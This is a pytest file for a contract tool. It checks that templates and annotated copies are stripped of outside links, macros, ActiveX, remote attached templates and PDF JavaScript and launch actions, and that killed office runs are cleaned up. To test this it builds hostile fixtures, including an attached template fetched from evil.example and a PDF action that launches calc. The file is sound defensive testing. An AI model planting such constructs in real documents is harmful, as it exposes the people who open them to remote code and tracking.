"""Hostile office files and killed runs: outside links, active content, leftovers.

* Case 10: a house template with a picture linked to an http URL is reported by
  ``lint --template`` (T009), stripped by ``render`` and never fetched by LibreOffice.
* Case 13: annotated copies carry no active content (PDF actions and scripts, DOCX
  external links, VBA, ActiveX, OLE, altChunk, attached templates) and say what went.
* Case 18: a killed run leaves no office process; its profile folder and temporary
  files are removed by a later run.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import textwrap
import threading
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from docx.shared import Inches
from lxml import etree
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

import contractsmith.analyse.check as check_module
from contractsmith.analyse.check import DocumentReport, Report
from contractsmith.atomic import remove_stale_temps, write_bytes_atomic
from contractsmith.cli import main
from contractsmith.generate import pdf_pool
from contractsmith.generate.docx_writer import load_shell
from contractsmith.generate.pdf import convert_docx_files
from contractsmith.generate.pdf_pool import stage_document
from contractsmith.generate.render import render
from contractsmith.generate.soffice import OWNER_FILE, Profile, remove_stale_profiles
from contractsmith.library import load_library
from contractsmith.lint.template import lint_template
from contractsmith.ooxml_active import find_outside_links, list_links, sanitize_docx
from contractsmith.report.annotate import annotate_report
from contractsmith.report.annotate_docx import annotate_docx
from contractsmith.report.annotate_pdf import annotate_pdf
from tests.generate.conftest import EXAMPLE, FIXTURE_CLAUSES
from tests.report.helpers import simple_pdf

from .helpers import pid_alive, write_fake_soffice

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL_IMAGE = "http://127.0.0.1:9/logo.png"
AS_OF = "2026-01-15"
EMPTY_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"</Relationships>"
)


# --- building hostile DOCX files -----------------------------------------------------


def _png() -> bytes:
    """A 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def _rewrite(source: bytes, edits: dict[str, bytes | None], extra: dict[str, bytes]) -> bytes:
    """``source`` with parts replaced (None deletes) and ``extra`` parts added."""
    zin = zipfile.ZipFile(io.BytesIO(source))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = edits.get(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in extra.items():
            zout.writestr(name, data)
    return out.getvalue()


def _add_rel(rels: bytes, rel_id: str, kind: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rel_id}" Type="{R}/{kind}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def link_picture(data: bytes, url: str = EXTERNAL_IMAGE) -> bytes:
    """Turn the first embedded picture of a DOCX into one linked to ``url``."""
    zin = zipfile.ZipFile(io.BytesIO(data))
    document = zin.read("word/document.xml")
    document = re.sub(rb'r:embed="rId\d+"', b'r:link="rIdOut1"', document, count=1)
    rels = _add_rel(
        zin.read("word/_rels/document.xml.rels"), "rIdOut1", "image", url, external=True
    )
    return _rewrite(data, {"word/document.xml": document, "word/_rels/document.xml.rels": rels}, {})


def docx_with_linked_picture(path: Path, text: str = "Hello") -> Path:
    """A DOCX with a paragraph of ``text`` and a picture linked to an http URL."""
    doc = docx.Document()
    doc.add_paragraph(text)
    doc.add_picture(io.BytesIO(_png()), width=Inches(1))
    buf = io.BytesIO()
    doc.save(buf)
    path.write_bytes(link_picture(buf.getvalue()))
    return path


def hostile_docx(path: Path) -> Path:
    """A DOCX with a linked picture, an http hyperlink, an attached template on a server,
    a VBA project and an ActiveX control."""
    docx_with_linked_picture(path, "The Creator shall post the Content.")
    data = path.read_bytes()
    zin = zipfile.ZipFile(io.BytesIO(data))
    document = zin.read("word/document.xml").decode()
    hyperlink = (
        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>see the brand site</w:t></w:r>'
        "</w:hyperlink></w:p>"
        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="Box1"/></w:object></w:r></w:p>'
    )
    document = document.replace("<w:sectPr", hyperlink + "<w:sectPr", 1)
    rels = zin.read("word/_rels/document.xml.rels")
    rels = _add_rel(rels, "rIdWeb", "hyperlink", "http://brand.example/track", external=True)
    rels = _add_rel(rels, "rIdVba", "vbaProject", "vbaProject.bin", external=False)
    rels = _add_rel(rels, "rIdAx", "control", "activeX/activeX1.xml", external=False)
    settings = zin.read("word/settings.xml").decode()
    settings = re.sub(
        r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1
    )
    settings_rels = _add_rel(
        EMPTY_RELS, "rIdTpl", "attachedTemplate", "http://evil.example/t.dotm", external=True
    )
    types = zin.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.'
        b'vbaProject"/><Override PartName="/word/activeX/activeX1.xml" ContentType="'
        b'application/vnd.ms-office.activeX+xml"/><Override PartName="/word/activeX/'
        b'activeX1.bin" ContentType="application/vnd.ms-office.activeX"/></Types>',
    )
    activex_rels = _add_rel(
        EMPTY_RELS, "rIdBin", "activeXControlBinary", "activeX1.bin", external=False
    )
    path.write_bytes(
        _rewrite(
            data,
            {
                "word/document.xml": document.encode(),
                "word/_rels/document.xml.rels": rels,
                "word/settings.xml": settings.encode(),
                "[Content_Types].xml": types,
            },
            {
                "word/_rels/settings.xml.rels": settings_rels,
                "word/vbaProject.bin": b"VBA-MACRO-CODE",
                "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>',
                "word/activeX/_rels/activeX1.xml.rels": activex_rels,
                "word/activeX/activeX1.bin": b"ACTIVEX-BINARY",
            },
        )
    )
    return path


def _zip_text(path: Path | bytes) -> dict[str, bytes]:
    source = io.BytesIO(path) if isinstance(path, bytes) else str(path)
    with zipfile.ZipFile(source) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def _external_targets(parts: dict[str, bytes]) -> list[str]:
    return [link.target for link in list_links(parts) if link.external]


# --- case 10: outside links in templates and converted documents ---------------------


def test_lint_template_reports_an_outside_linked_picture_as_T009(tmp_path: Path) -> None:
    linked = docx_with_linked_picture(tmp_path / "house.docx", "{{ title }}")
    findings = lint_template(linked, known_names={"title"}).findings
    assert [f.rule for f in findings] == ["T009"]
    assert EXTERNAL_IMAGE in findings[0].message
    assert findings[0].severity.value == "warning"
    assert findings[0].location.pointer == "word/_rels/document.xml.rels"

    # A plain hyperlink is fetched by nobody: no finding.
    plain = tmp_path / "plain.docx"
    doc = docx.Document()
    doc.add_paragraph("{{ title }}")
    doc.save(str(plain))
    data = _zip_text(plain)
    rels = _add_rel(
        data["word/_rels/document.xml.rels"], "rIdW", "hyperlink", "http://x.example/", True
    )
    plain.write_bytes(_rewrite(plain.read_bytes(), {"word/_rels/document.xml.rels": rels}, {}))
    assert lint_template(plain, known_names={"title"}).findings == []


def test_render_strips_outside_links_from_a_house_template(tmp_path: Path) -> None:
    shell = load_shell()
    doc = docx.Document(str(shell.path))
    doc.add_picture(io.BytesIO(_png()), width=Inches(1))
    buf = io.BytesIO()
    doc.save(buf)
    house = tmp_path / "house.docx"
    house.write_bytes(link_picture(buf.getvalue()))
    assert find_outside_links(_zip_text(house))

    library = load_library(FIXTURE_CLAUSES)
    first = render(EXAMPLE, tmp_path / "a", as_of=AS_OF, library=library, template=house)
    second = render(EXAMPLE, tmp_path / "b", as_of=AS_OF, library=library, template=house)
    out = first.docx_path.read_bytes()
    assert out == second.docx_path.read_bytes()  # deterministic
    parts = _zip_text(out)
    assert _external_targets(parts) == []
    assert b"r:link=" not in parts["word/document.xml"]
    assert b"127.0.0.1" not in b"".join(parts.values())
    docx.Document(io.BytesIO(out))  # still a valid Word document
    # The manifest names the template the user gave, not the stripped copy.
    assert first.manifest["template"]["sha256"] == load_shell(house).sha256


def test_render_command_says_which_links_it_removed(tmp_path: Path) -> None:
    house = docx_with_linked_picture(tmp_path / "house.docx", "{{ title }}")
    result = CliRunner().invoke(
        main,
        [
            "render",
            str(EXAMPLE),
            "-o",
            str(tmp_path / "out"),
            "--template",
            str(house),
            "--as-of",
            AS_OF,
            "--clauses",
            str(FIXTURE_CLAUSES),
        ],
    )
    assert result.exit_code == 0, result.output
    notes = [line for line in result.stderr.splitlines() if line.startswith("note:")]
    assert len(notes) == 1
    assert "removed 1 outside link(s)" in notes[0] and EXTERNAL_IMAGE in notes[0]


def test_documents_staged_for_libreoffice_carry_no_outside_links(tmp_path: Path) -> None:
    linked = docx_with_linked_picture(tmp_path / "in.docx")
    staged = tmp_path / "staged.docx"
    stage_document(linked, staged)
    parts = _zip_text(staged)
    assert _external_targets(parts) == []
    assert b"a:blip" not in parts["word/document.xml"]  # the picture element went too
    assert "Hello" in "".join(p.text for p in docx.Document(str(staged)).paragraphs)
    # Not a package: copied as it is, for LibreOffice to report.
    junk = tmp_path / "junk.docx"
    junk.write_bytes(b"OK")
    stage_document(junk, tmp_path / "junk-staged.docx")
    assert (tmp_path / "junk-staged.docx").read_bytes() == b"OK"


def test_packages_without_outside_links_keep_their_bytes(tmp_path: Path) -> None:
    plain = tmp_path / "plain.docx"
    docx.Document().save(str(plain))
    data = plain.read_bytes()
    assert sanitize_docx(data) == (data, [])


def test_profiles_start_with_fetching_and_macros_disabled() -> None:
    profile = Profile()
    try:
        xcu = profile.path / "profile" / "user" / "registrymodifications.xcu"
        root = etree.parse(str(xcu)).getroot()
        props = {
            (
                item.get("{http://openoffice.org/2001/registry}path"),
                prop.get("{http://openoffice.org/2001/registry}name"),
            ): prop.findtext("value")
            for item in root
            for prop in item
        }
        scripting = "/org.openoffice.Office.Common/Security/Scripting"
        assert props[(scripting, "BlockUntrustedRefererLinks")] == "true"
        assert props[(scripting, "DisableMacrosExecution")] == "true"
        assert props[("/org.openoffice.Inet/Settings", "ooInetProxyType")] == "1"
        assert int((profile.path / OWNER_FILE).read_text()) == os.getpid()
        profile.reset()  # a fresh profile keeps the settings
        assert xcu.exists()
    finally:
        profile.remove()


@pytest.fixture
def http_server() -> Iterator[tuple[str, list[str]]]:
    """A localhost HTTP server in a thread; yields its base URL and the requests seen."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def _any(self) -> None:
            seen.append(f"{self.command} {self.path}")
            self.send_response(404)
            self.end_headers()

        do_GET = do_HEAD = do_OPTIONS = do_PROPFIND = _any

        def log_message(self, *_args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.timeout = 2
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.soffice
def test_libreoffice_profile_does_not_fetch_linked_pictures(
    tmp_path: Path, http_server: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    base, seen = http_server
    doc = docx.Document()
    doc.add_paragraph("Linked logo below.")
    doc.add_picture(io.BytesIO(_png()), width=Inches(1))
    buf = io.BytesIO()
    doc.save(buf)
    source = tmp_path / "linked.docx"
    source.write_bytes(link_picture(buf.getvalue(), f"{base}/logo.png"))
    # Hand LibreOffice the document as it is, links included: the profile alone must hold.
    monkeypatch.setattr(pdf_pool, "stage_document", lambda s, t: shutil.copyfile(s, t))
    errors = convert_docx_files([(source, tmp_path / "linked.pdf")], timeout=60)
    assert errors == [None]
    assert seen == []


# --- case 13: annotated copies carry no active content -------------------------------


def _hostile_pdf(path: Path) -> Path:
    """A one-page contract PDF with auto-run JavaScript, page actions and a URI link."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(simple_pdf(["The Creator shall post."]))))
    script = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('owned');"),
            }
        )
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("auto"), script])}
            )
        }
    )
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x=1")}
    )
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/Launch"),
                    NameObject("/F"): TextStringObject("calc"),
                }
            )
        }
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 200, 720)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/GoTo"),
                    NameObject("/D"): ArrayObject([NumberObject(0)]),
                    NameObject("/Next"): DictionaryObject(
                        {
                            NameObject("/S"): NameObject("/URI"),
                            NameObject("/URI"): TextStringObject("http://track.example/p"),
                        }
                    ),
                }
            ),
        }
    )
    writer.add_annotation(page_number=0, annotation=link)
    writer.add_attachment("spec.json", b'{"kept": true}')
    with path.open("wb") as fh:
        writer.write(fh)
    return path


def test_annotated_pdf_has_no_active_content(tmp_path: Path) -> None:
    source = _hostile_pdf(tmp_path / "in.pdf")
    removed: list[str] = []
    annotate_pdf(source, tmp_path / "out.pdf", [], removed)
    data = (tmp_path / "out.pdf").read_bytes()
    # pypdf writes "." as \056 in strings, so look for names and a dot-free word.
    for marker in (b"/JS", b"/JavaScript", b"/Launch", b"/URI", b"track", b"/AA", b"owned"):
        assert marker not in data, marker
    reader = PdfReader(io.BytesIO(data))
    assert "/OpenAction" not in reader.trailer["/Root"]
    assert reader.attachments == {"spec.json": [b'{"kept": true}']}  # passive: kept
    assert reader.pages[0].extract_text().strip() == "The Creator shall post."
    assert removed == [
        "JavaScript name tree",
        "2 x JavaScript action",  # the name tree's and the /OpenAction's
        "/OpenAction",
        "additional actions (/AA)",
        "URI action",
    ]


def test_annotated_docx_has_no_active_content(tmp_path: Path) -> None:
    source = hostile_docx(tmp_path / "in.docx")
    removed: list[str] = []
    annotate_docx(source, tmp_path / "out.docx", [], removed)
    parts = _zip_text(tmp_path / "out.docx")
    assert _external_targets(parts) == []
    assert not [n for n in parts if "vbaProject" in n or "activeX" in n]
    assert b"vbaProject" not in parts["[Content_Types].xml"]
    assert b"activeX" not in parts["[Content_Types].xml"]
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"w:control" not in parts["word/document.xml"]
    assert b"w:hyperlink" not in parts["word/document.xml"]
    text = [p.text for p in docx.Document(str(tmp_path / "out.docx")).paragraphs]
    assert "see the brand site" in text  # the link's words stay
    assert any("link to " + EXTERNAL_IMAGE in r for r in removed)
    assert any("http://evil.example/t.dotm" in r for r in removed)
    assert any(r.startswith("vbaProject") for r in removed)
    assert any(r.startswith("control") for r in removed)


def test_check_annotate_says_what_it_removed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_findings(files, **kwargs) -> Report:  # the wording rules are not under test
        docs = [DocumentReport(path=str(f), format="docx") for f in files]
        return Report(documents=docs, playbook=kwargs["playbook"])

    monkeypatch.setattr(check_module, "check", no_findings)
    source = hostile_docx(tmp_path / "in.docx")
    cli = CliRunner().invoke(
        main, ["check", str(source), "--annotate", str(tmp_path / "out"), "--fail-on", "never"]
    )
    assert cli.exit_code == 0, cli.output
    lines = [line for line in cli.stderr.splitlines() if "removed active content" in line]
    assert len(lines) == 1 and EXTERNAL_IMAGE in lines[0] and "vbaProject" in lines[0]
    report = no_findings([source], playbook=None)
    [result] = annotate_report(report, tmp_path / "api")
    assert result.output is not None and result.count == 0
    assert any(EXTERNAL_IMAGE in r for r in result.removed)


def test_clean_copies_report_nothing_removed(tmp_path: Path) -> None:
    clean = tmp_path / "clean.docx"
    docx.Document().save(str(clean))
    removed: list[str] = []
    annotate_docx(clean, tmp_path / "out.docx", [], removed)
    pdf = tmp_path / "clean.pdf"
    pdf.write_bytes(simple_pdf(["Plain words."]))
    annotate_pdf(pdf, tmp_path / "out.pdf", [], removed)
    assert removed == []


# --- case 18: killed runs leave nothing behind for long --------------------------------


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def _aged(path: Path, minutes: float) -> None:
    then = time.time() - minutes * 60
    os.utime(path, (then, then))


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads command lines from /proc")
def test_stale_profiles_of_dead_owners_are_removed(tmp_path: Path) -> None:
    dead = _dead_pid()
    for name, owner, age in (
        ("dead-old", dead, 30),
        ("dead-new", dead, 0),
        ("alive-old", os.getpid(), 30),
        ("ownerless-old", None, 30),
    ):
        folder = tmp_path / f"contractsmith-lo-{name}"
        (folder / "profile").mkdir(parents=True)
        if owner is not None:
            (folder / OWNER_FILE).write_text(f"{owner}\n")
        _aged(folder, age)
    other = tmp_path / "unrelated-old"
    other.mkdir()
    _aged(other, 30)
    # An office of an older version (no owner file) still converting from its folder.
    busy = tmp_path / "contractsmith-lo-busy-old"
    (busy / "in").mkdir(parents=True)
    _aged(busy, 30)
    sleeper = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)", str(busy / "in" / "c1.docx")]
    )
    try:
        cmdline = Path(f"/proc/{sleeper.pid}/cmdline")
        deadline = time.monotonic() + 10
        while cmdline.exists() and not cmdline.read_bytes() and time.monotonic() < deadline:
            time.sleep(0.01)  # the kernel fills it in just after exec
        removed = remove_stale_profiles(tmp_path, minutes=10)
    finally:
        sleeper.kill()
        sleeper.wait()
    assert sorted(p.name for p in removed) == [
        "contractsmith-lo-dead-old",
        "contractsmith-lo-ownerless-old",
    ]
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "contractsmith-lo-alive-old",
        "contractsmith-lo-busy-old",
        "contractsmith-lo-dead-new",
        "unrelated-old",
    ]


def test_first_write_into_a_folder_removes_stale_temporary_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONTRACTSMITH_STALE_MINUTES", "5")
    old = tmp_path / ".a.docx.k2j4_9xq.tmp"
    new = tmp_path / ".b.docx.abcdefgh.tmp"
    unrelated = tmp_path / "notes.tmp"
    for path in (old, new, unrelated):
        path.write_bytes(b"half")
    _aged(old, 30)
    _aged(unrelated, 30)
    write_bytes_atomic(tmp_path / "c.docx", b"whole")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        ".b.docx.abcdefgh.tmp",
        "c.docx",
        "notes.tmp",
    ]
    assert remove_stale_temps(tmp_path, minutes=0) == [new]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux")
def test_office_dies_with_a_killed_parent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """SIGKILL leaves no chance for cleanup code: the guard must take the office down."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    log = tmp_path / "fake.log"
    src = tmp_path / "hang.docx"
    src.write_text("HANG")
    env = dict(
        os.environ,
        CONTRACTSMITH_SOFFICE=str(write_fake_soffice(bindir)),
        FAKE_SOFFICE_LOG=str(log),
        TMPDIR=str(tmp_path),
    )
    env.pop("FAKE_SOFFICE_EXIT", None)
    script = textwrap.dedent(
        f"""
        from pathlib import Path
        from contractsmith.generate.pdf import convert_docx_files
        convert_docx_files([(Path({str(src)!r}), Path({str(tmp_path / "o.pdf")!r}))], timeout=120)
        """
    )
    proc = subprocess.Popen([sys.executable, "-c", script], env=env)
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not (log.exists() and "child" in log.read_text()):
            time.sleep(0.05)
        assert log.exists() and "child" in log.read_text(), "the fake office never hung"
        proc.kill()
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    entries = [json.loads(line) for line in log.read_text().splitlines()]
    pids = [e.get("child") or e.get("pid") for e in entries]
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and any(pid_alive(p) for p in pids):
        time.sleep(0.05)
    assert not any(pid_alive(p) for p in pids), "an office process outlived its parent"
    # The profile folder stays until a later run finds its owner gone.
    [leftover] = [p for p in tmp_path.iterdir() if p.name.startswith("contractsmith-lo-")]
    _aged(leftover, 30)
    assert remove_stale_profiles(tmp_path, minutes=10) == [leftover]
